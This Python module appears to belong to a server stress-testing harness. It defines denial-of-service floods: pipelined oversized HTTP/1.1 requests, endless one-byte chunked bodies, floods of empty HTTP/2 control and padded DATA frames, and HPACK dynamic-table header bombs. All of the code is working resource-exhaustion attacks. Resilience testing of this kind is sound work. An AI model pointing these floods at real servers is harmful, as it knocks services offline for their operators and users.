"""Floods of what is cheap to send: requests, frames and chunks that are prepared once and sent without end."""

import asyncio
import contextlib

from http2.wire import (
    DATA, END_HEADERS, HEADERS, PADDED, PING, PREFACE, PRIORITY, SETTINGS, WINDOW_UPDATE, frame, literals, settings, text, u32,
)

from attackers import Ended, attack

PRIORITY_UPDATE, UNKNOWN = 0x10, 0xF0
CHUNKED = b" HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"


async def flood(attacker, connections, *kinds):
    """Clients that send the beginning of one of these kinds, and then its piece again and again, and read everything."""

    async def client(number):
        beginning, piece = kinds[number % len(kinds)]
        own = await attacker.connect(small=False)
        reading = asyncio.create_task(attacker.until_closed(own))
        try:
            await attacker.send(own, beginning)
            while True:
                await attacker.send(own, piece)
                attacker.counts["asked"] += 1
                # A send that does not wait lets no other client run.
                await asyncio.sleep(0)
        finally:
            reading.cancel()
            with contextlib.suppress(Ended, asyncio.CancelledError):
                await reading

    await attacker.swarm(connections, attacker.persistent(client))


def head(method, path):
    return literals([(":method", method), (":scheme", "http"), (":path", path), (":authority", "a")])


@attack("pipelined", "8 connections that pipeline refused requests: with bodies, and such that cost as much as possible")
async def pipelined(attacker):
    fields = b"".join(b"x_%d: a\r\n" % number for number in range(95))
    costly = b"GET /%s HTTP/1.1\r\nHost: a\r\nConnection: %sx-b\r\n%s\r\n" % (b"a;b/" * 1900, b"x-a," * 1000, fields)
    await flood(attacker, 8, (b"", b"POST /api HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello" * 500), (b"", costly * 16))


@attack("chunks", "8 bodies of chunks of one byte, refused and on a public route")
async def chunks(attacker):
    piece = b"1\r\nx\r\n" * 10_000
    await flood(attacker, 8, (b"POST /api" + CHUNKED, piece), (b"POST /public/hang" + CHUNKED, piece))


@attack("h2-frames", "16 connections with frames that carry nothing, or one byte")
async def h2_frames(attacker):
    control = [
        frame(PING, 0, 0, bytes(8)), frame(SETTINGS), frame(PRIORITY, 0, 1, b"\0\0\0\3\1"), frame(WINDOW_UPDATE, 0, 0, u32(1)),
        frame(PRIORITY_UPDATE, 0, 0, u32(1) + b"u=1"), frame(UNKNOWN, 0, 0, bytes(8)),
    ]
    upload = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head("POST", "/public/hang"))
    await flood(
        attacker, 16, (PREFACE + settings(), b"".join(control) * 200), (upload, frame(DATA, PADDED, 1, b"\0") * 1000),
        (upload, frame(DATA, 0, 1, b"x") * 1000),
    )


@attack("h2-bombs", "8 connections with heads of a few bytes that refer to long entries of the dynamic table")
async def h2_bombs(attacker):
    named = b"\x82\x86\x04" + text("/api") + b"\x01" + text("a")
    first = frame(HEADERS, END_HEADERS | 1, 1, named + b"\x40" + text("x") + text("y" * 3900))
    # Streams whose numbers do not increase end the connection, so it is opened again for each of these.
    rest = b"".join(frame(HEADERS, END_HEADERS | 1, stream, named + b"\xbe" * 3000) for stream in range(3, 400, 2))
    await flood(attacker, 8, (PREFACE + settings() + first, rest))
